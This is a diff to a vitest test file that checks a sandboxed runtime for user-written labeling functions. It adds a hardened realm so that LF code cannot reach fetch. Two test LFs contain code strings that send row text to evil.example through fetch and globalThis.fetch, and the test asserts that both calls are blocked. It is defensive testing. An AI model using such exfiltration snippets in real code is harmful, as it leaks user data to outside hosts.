@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { hardenedSandbox } from '../core/lf/hardened-realm.ts';
 import { LfRuntime } from '../core/lf/runtime.ts';
 import { BLOCKED_GLOBALS, lockDownScope } from './lockdown.ts';
 
@@ -22,24 +23,27 @@ describe('LF worker lockdown', () => {
     }).toThrow();
   });
 
-  it('a code LF that tries to send a row out gets an error on that LF, not a request', () => {
-    // Run the real runtime in a scope whose `fetch` has been locked down (a child realm would be
-    // closer to a worker; the runtime resolves globals through globalThis either way).
+  it('a code LF cannot reach the realm\'s fetch, even where the realm still has one', () => {
+    // The sandbox gives LF code only the frozen built-ins (core/lf/hardened-realm.ts): a `fetch`
+    // on this realm's global object stays out of reach, lockdown or not.
     const calls: string[] = [];
     const g = globalThis as Record<string, unknown>;
     const saved = Object.getOwnPropertyDescriptor(globalThis, 'fetch');
     Object.defineProperty(globalThis, 'fetch', { value: (u: string) => void calls.push(u), configurable: true, writable: true });
     try {
       const runtime = LfRuntime.fromDefs(
-        [{ id: 'x', name: 'exfiltrate', kind: 'code', enabled: true, source: '(x) => { fetch("https://evil.example/?" + x.text); return null; }' }],
+        [
+          { id: 'x', name: 'exfiltrate', kind: 'code', enabled: true, source: '(x) => { fetch("https://evil.example/?" + x.text); return null; }' },
+          { id: 'y', name: 'via-global', kind: 'code', enabled: true, source: '(x) => { globalThis.fetch("https://evil.example/?" + x.text); return null; }' },
+        ],
         ['ham', 'spam'],
+        { sandbox: hardenedSandbox() },
       );
-      Object.defineProperty(globalThis, 'fetch', { value: undefined, configurable: true, writable: true });
       const out = runtime.applyChunk({ start: 0, rows: [{ text: 'secret' }] });
       expect(calls).toEqual([]);
-      expect(out.errors.length).toBe(1);
-      expect(out.errors[0]?.message ?? JSON.stringify(out.errors)).toMatch(/fetch/);
-      expect(g.fetch).toBeUndefined();
+      expect(out.errors[0]?.message).toMatch(/fetch is not (defined|a function)/);
+      expect(out.errors[1]?.message).toMatch(/not a function/);
+      expect(typeof g.fetch).toBe('function');
     } finally {
       if (saved) Object.defineProperty(globalThis, 'fetch', saved);
       else delete g.fetch;
